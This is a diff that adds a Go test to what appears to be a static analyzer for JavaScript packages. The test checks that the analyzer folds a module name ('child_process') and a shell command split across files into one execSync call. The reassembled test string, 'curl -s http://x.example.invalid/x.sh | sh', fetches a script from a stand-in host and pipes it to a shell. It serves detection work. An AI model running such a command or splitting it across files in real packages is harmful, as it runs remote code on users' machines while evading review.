@@ -1235,3 +1235,37 @@ func TestRequireJoinedPath(t *testing.T) {
 		t.Errorf("imports %+v", f.Imports)
 	}
 }
+
+// TestCrossFileConstants covers a module name and a command kept in the
+// package's own modules: their exports fold where a require, a spawn or
+// eval uses them, and nowhere else.
+func TestCrossFileConstants(t *testing.T) {
+	if f := Analyze("names.js", []byte(`module.exports = "child_" + "process";`), DefaultLimits()); f.Export != "child_process" {
+		t.Errorf("Export = %q", f.Export)
+	}
+	lim := DefaultLimits()
+	asked := map[string]bool{}
+	lim.Module = func(from, spec string) (string, bool) {
+		asked[spec] = true
+		switch spec {
+		case "./names":
+			return "child_process", true
+		case "./a":
+			return "curl -s http://x.example.invalid/", true
+		case "./b":
+			return "x.sh | sh", true
+		}
+		return "", false
+	}
+	f := Analyze("index.js", []byte(`require(require("./names")).execSync(require("./a") + require("./b"));
+const cfg = require("./config");`), lim)
+	if !hasImport(f, "child_process") {
+		t.Errorf("module name from another file not folded: %+v", f.Imports)
+	}
+	if c := hasCall(f, "child_process.execSync"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "curl -s http://x.example.invalid/x.sh | sh" {
+		t.Errorf("command split over files: %+v", c)
+	}
+	if len(asked) != 3 || asked["./config"] {
+		t.Errorf("Module asked for %v, want ./names, ./a and ./b (not a plain require of ./config)", asked)
+	}
+}
